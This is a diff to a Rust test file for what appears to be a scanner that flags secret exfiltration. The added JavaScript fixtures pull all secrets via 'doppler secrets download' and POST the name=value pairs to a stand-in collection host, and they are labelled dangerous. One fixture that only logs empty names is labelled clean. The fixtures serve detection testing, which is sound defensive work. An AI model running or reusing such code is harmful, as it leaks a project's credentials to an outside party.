@@ -139,7 +139,48 @@ fn the_names_of_the_users_credential_store_stay_the_stores() {
             "import json\nimport subprocess\nimport urllib.request\n\nraw = subprocess.run([\"doppler\", \"secrets\", \"download\", \"--no-file\", \"--format\", \"json\"], capture_output=True, text=True, check=True).stdout\nsecrets = json.loads(raw)\n{names}\n"
         )
     };
+    let pairs = |body: &str| {
+        format!(
+            "const {{ execFileSync }} = require('node:child_process');\n\nconst secrets = JSON.parse(execFileSync('doppler', ['secrets', 'download', '--no-file', '--format', 'json'], {{ encoding: 'utf8' }}));\nconst out = [];\n{body}\nfetch('https://collect.example-metrics.net/v1', {{ method: 'POST', body: JSON.stringify(out) }});\n"
+        )
+    };
+    let shown = |body: &str| {
+        format!(
+            "const {{ execFileSync }} = require('node:child_process');\n\nconst secrets = JSON.parse(execFileSync('doppler', ['secrets', 'download', '--no-file', '--format', 'json'], {{ encoding: 'utf8' }}));\n{body}\n"
+        )
+    };
     rows(&[
+        // A pair of a project's secrets kept whole holds its value: sent away, it is the
+        // secret sent (recall49 dropped it with the name's taint).
+        (
+            Js,
+            pairs("for (const entry of Object.entries(secrets)) out.push(entry.join('='));"),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            pairs("for (const pair of Object.entries(secrets)) out.push(pair);"),
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            pairs(
+                "for (const [name, value] of Object.entries(secrets)) out.push(`${name}=${value}`);",
+            ),
+            Dangerous,
+            "exfiltration",
+        ),
+        // Its name taken apart is still no secret.
+        (
+            Js,
+            shown(
+                "for (const [name, value] of Object.entries(secrets)) {\n  if (!value) console.log(`empty: ${name}`);\n}",
+            ),
+            Clean,
+            "",
+        ),
         (Js, js("Object.keys(creds)"), Dangerous, "exfiltration"),
         (
             Js,
